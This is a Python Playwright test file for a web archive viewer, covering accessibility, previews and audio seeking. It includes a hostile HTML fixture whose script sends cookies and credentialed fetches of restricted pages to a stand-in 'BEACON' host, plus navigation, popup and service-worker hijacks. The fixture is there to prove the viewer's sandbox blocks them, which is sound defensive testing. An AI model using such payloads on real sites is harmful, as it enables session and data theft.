"""The room in a real browser: readable, accessible, narrow, and harmless whatever lies in an archived page.

A click returns when the next page has begun to arrive. What that page looks like is asked with `expect`, which waits for it.
"""

from __future__ import annotations

import io
import re
import threading
import wave
from functools import partial
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from tests.browser.accessible import assert_accessible
from tests.room.conftest import DOT
from tests.room.served import TOKEN

pytestmark = pytest.mark.xdist_group("browser")

PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj "
       b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")

#: Everything a page can try: BEACON is another site, ROOM the room, OTHER another collection.
HOSTILE = """<!doctype html><html lang="en"><head><title>Hostile</title><base href="BEACON/base/">
<meta http-equiv="refresh" content="1;url=BEACON/refresh">
<link rel="stylesheet" href="BEACON/style"><link rel="prefetch" href="BEACON/prefetch"><link rel="preload" as="image" href="BEACON/preload">
<link rel="manifest" href="BEACON/manifest"><link rel="icon" href="BEACON/icon">
<style>@import "BEACON/import"; body { background: url(BEACON/background) }
@font-face { font-family: x; src: url(BEACON/font) } p { font-family: x }</style>
<script src="BEACON/script"></script><script src="steal.js"></script>
<script>
document.title = "SCRIPT RAN";
try { new Image().src = "BEACON/cookie?" + document.cookie } catch (e) {}
try { localStorage.setItem("x", "1") } catch (e) {}
for (const url of ["ROOM/c/vault", "ROOM/", "OTHER"])
  fetch(url, {credentials: "include"}).then(r => r.text()).then(t => fetch("BEACON/stolen?" + encodeURIComponent(t.slice(0, 50))));
try { navigator.serviceWorker.register("worker.js").then(() => fetch("BEACON/worker")) } catch (e) {}
try { window.open("BEACON/popup") } catch (e) {}
try { top.location = "BEACON/top" } catch (e) {}
try { new WebSocket("BEACON/socket".replace("http", "ws")) } catch (e) {}
addEventListener("load", () => document.forms[0].submit());
</script></head>
<body onload="fetch('BEACON/onload')">
<h1>Hostile</h1><p>Its words are shown.</p>
<img src="BEACON/image" alt=""><img src="x" alt="" onerror="location='BEACON/onerror'"><img src="OTHER" alt="" id="other">
<iframe src="BEACON/frame"></iframe><iframe srcdoc="<script>top.location='BEACON/srcdoc'</script>"></iframe>
<iframe src="javascript:top.location='BEACON/js'"></iframe><iframe src="ROOM/"></iframe>
<object data="BEACON/object"></object><embed src="BEACON/embed"><video src="BEACON/video" autoplay></video>
<form action="BEACON/form" method="post"><input name="a" value="b"><button id="send">Send</button></form>
<a id="top" target="_top" href="javascript:location='BEACON/link'">Away</a> <a id="ping" href="#" ping="BEACON/ping">Ping</a>
<svg><script>fetch("BEACON/svg")</script></svg><p>The end of it.</p>
</body></html>"""


class Beacon:
    """A site of somebody else's, who waits for news."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        beacon = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                beacon.heard.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://localhost:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def beacon():
    made = Beacon()
    yield made
    made.close()


def written(beacon: Beacon, room: str, other: str) -> bytes:
    return HOSTILE.replace("BEACON", beacon.url).replace("ROOM", room).replace("OTHER", other).encode()


#: What the browser logs of all that it did not do.
BLOCKED = ("Content Security Policy", "sandbox", "Blocked", "net::ERR", "the server responded with a status", "violates")


def test_a_hostile_page_does_nothing(made, beacon, open_page, complaints):
    complaints.expected += BLOCKED
    made.archive("vault", {"secret.png": DOT, "secret.html": "<title>canary</title>canary"}, "access: {level: restricted}\n")
    made.archive("town", {"index.html": "<!doctype html><title>x</title>"})
    with made.open() as served:
        other = served.site("/c/vault/v1/f/secret.html", Authorization=f"Bearer {TOKEN}").replace("secret.html", "secret.png")
        made.archive("town", {
            "hostile.html": written(beacon, served.url, other), "steal.js": f"fetch('{beacon.url}/file-script')", "worker.js": "// nothing",
            "hostile.svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{beacon.url}/svg-load')\">"
                           f"<script>fetch('{beacon.url}/svg')</script></svg>",
        })
        page = open_page()
        page.goto(f"{served.url}/?token={TOKEN}")
        assert page.url == served.url + "/", "the token has left the address"
        assert page.get_by_role("link", name="vault").count() == 1, "the curator's session is open"
        wait_for(page, f"{served.url}/c/town/v2/f/hostile.html")
        # within the room's own page
        frame = page.frame_locator("iframe.preview")
        page.locator("iframe.preview").scroll_into_view_if_needed()
        assert frame.get_by_text("Its words are shown.").inner_text() == "Its words are shown."
        page.wait_for_timeout(2500)
        assert page.url.endswith("/hostile.html"), "no top navigation"
        assert page.title().startswith("hostile.html")
        assert_accessible(page)
        # by itself
        page.get_by_role("link", name="Open as the page it was").press("Enter")
        page.get_by_text("The end of it.").wait_for()
        address = page.url
        page.wait_for_timeout(2500)
        assert (page.url, page.title()) == (address, "Hostile"), "no script ran, no refresh"
        assert page.locator("#other").evaluate("image => image.naturalWidth") == 0, "nothing of another collection"
        page.locator("#send").click()
        page.locator("#top").click()
        page.locator("#ping").click()
        page.wait_for_timeout(1000)
        assert page.url.partition("#")[0] == address, "no form, no script in a link"
        page.goto(address.replace("hostile.html", "hostile.svg"))
        page.wait_for_timeout(500)
        assert len(page.context.pages) == 1, "no popup"
        assert page.context.service_workers == []
    assert beacon.heard == []


def test_the_same_page_elsewhere_does_its_worst(tmp_path, beacon, open_page, complaints):
    """So that the test above is one that can fail."""
    complaints.expected.append("")
    (tmp_path / "hostile.html").write_bytes(written(beacon, "http://localhost:9", "http://localhost:9/x"))
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(SimpleHTTPRequestHandler, directory=str(tmp_path)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    page = open_page()
    page.goto(f"http://localhost:{server.server_address[1]}/hostile.html", wait_until="commit")
    for _ in range(600):
        if {"/image", "/style"} <= set(beacon.heard) and {"/top", "/form", "/popup", "/onerror"} & set(beacon.heard):
            break
        page.wait_for_timeout(200)
    server.shutdown()
    server.server_close()
    assert {"/image", "/style"} <= set(beacon.heard)
    assert {"/top", "/form", "/popup", "/onerror"} & set(beacon.heard)


def test_a_site_is_browsed_as_it_was(town, browser_page, complaints):
    complaints.expected.append("Blocked script execution")  # the test's own questions
    browser_page.goto(town.url + "/c/town/v1/")
    browser_page.get_by_role("link", name="Browse this folder as the site it was").click()
    heading = browser_page.get_by_role("heading", name="The town")
    expect(heading, "its style, by a link from the root").to_have_css("color", "rgb(1, 2, 3)")
    expect(browser_page.get_by_alt_text("a dot")).to_have_js_property("naturalWidth", 1)
    browser_page.get_by_role("link", name="The mill").click()
    browser_page.get_by_text("It ground corn until 1931.").wait_for()
    browser_page.get_by_role("link", name="Home").click()
    heading.wait_for()


PAGES = ("/", "/c/town", "/c/town/v2/", "/c/town/v2/f/pages/", "/c/town/v2/f/pages/mill.html", "/c/town/v2/f/images/dot.png",
         "/c/town/v2/f/notes/plain.txt", "/search?q=mill", "/search?q=", "/curator", "/nothing")


@pytest.mark.parametrize("options", [{}, {"width": 360, "height": 740}, {"color_scheme": "dark"}], ids=["wide", "narrow", "dark"])
def test_every_page_is_accessible(town, open_page, complaints, options):
    complaints.expected.append("404")
    page = open_page(**options)
    for path in (*PAGES, compared(town)):
        page.goto(town.url + path)
        assert_accessible(page)
        wide = page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
        assert wide[0] <= wide[1], (path, wide)


def test_the_curators_pages_are_accessible(town, open_page):
    page = open_page(width=360)
    page.goto(town.url + "/curator")
    page.get_by_label("The curator's token").fill(TOKEN)
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(town.url + "/")
    for path in ("/", "/c/vault", "/c/vault/v1/", "/c/vault/v1/f/same.txt"):
        page.goto(town.url + path)
        assert_accessible(page)
    assert page.get_by_text("For the curator alone").count() == 1
    page.goto(town.url + "/curator")
    page.get_by_role("button", name="Sign out").click()
    expect(page).to_have_url(town.url + "/")
    page.goto(town.url + "/")
    assert page.get_by_role("link", name="vault").count() == 0


def test_by_keyboard_and_without_scripts(town, open_page):
    page = open_page(java_script_enabled=False)
    page.goto(town.url + "/")
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(page, "the first stop skips to the content").to_have_url(re.compile("#main$"))
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    page.wait_for_url("**/c/town")
    page.get_by_label("Search names and metadata").fill("water")
    page.keyboard.press("Enter")
    page.get_by_role("link", name="pages/mill.html").click()
    page.get_by_text("Ottilie Quern").wait_for()


def test_previews_and_damage(made, open_page, complaints):
    complaints.expected.append("502")
    made.archive("town", {"a.pdf": PDF, "dot.png": DOT, "bad.png": DOT + b"to be damaged", "b.html": "<!doctype html><p>Words"})
    (pack,) = made.store.glob("packs/*/*.tar")
    data = pack.read_bytes().replace(b"to be damaged", b"TO be damaged")
    pack.unlink()
    pack.write_bytes(data)
    page = open_page()
    with made.open() as served:
        page.goto(served.url + "/c/town/v1/f/dot.png")
        expect(page.locator("img.preview")).to_have_js_property("naturalWidth", 1)
        page.goto(served.url + "/c/town/v1/f/bad.png")
        assert page.get_by_role("alert").inner_text().startswith("Damaged")
        assert page.locator("img").count() == 0
        assert_accessible(page)
        with page.expect_response("**/a.pdf") as answered:
            page.goto(served.url + "/c/town/v1/f/a.pdf")
        assert answered.value.status == 200
        assert_accessible(page)


def test_a_player_can_seek(made, open_page):
    seconds = 900
    sound = io.BytesIO()
    with wave.open(sound, "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(1)
        out.setframerate(8000)
        out.writeframes(bytes(128 + number % 7 for number in range(8000 * seconds)))
    made.archive("town", {"long.wav": sound.getvalue()})
    page = open_page()
    parts = []
    with made.open() as served:
        page.on("response", lambda response: parts.append((response.status, response.headers.get("content-range"))))
        page.goto(served.url + "/c/town/v1/f/long.wav")
        player = page.locator("audio.preview")
        assert round(player.evaluate("""one => new Promise(done => {
            if (one.readyState) done(one.duration); else one.addEventListener("loadedmetadata", () => done(one.duration)) })""")) == seconds
        at = player.evaluate("""one => new Promise((done, failed) => {
            one.addEventListener("seeked", () => done(one.currentTime)); one.addEventListener("error", () => failed(one.error.message));
            one.currentTime = 800 })""")
        assert at == 800

        def middle() -> bool:
            return any(int(part.removeprefix("bytes ").partition("-")[0]) > 4_000_000 for status, part in parts if status == 206)

        for _ in range(600):  # news of a response may come after its bytes
            if middle():
                break
            page.wait_for_timeout(200)
        assert middle(), "a part from the middle was asked for, and given"


def compared(town) -> str:
    digests = [re.search(r"<code>([0-9a-f]{64})</code>", town.get(f"/c/town/{label}/f/pages/mill.html").text)[1] for label in ("v1", "v2")]
    return "/compare/{}/{}".format(*digests)


def wait_for(page, url: str) -> None:
    """A version that was made a moment ago appears some seconds after it was asked for."""
    for _ in range(120):
        if page.goto(url).status == 200:
            return
        page.wait_for_timeout(500)
    raise AssertionError(url)
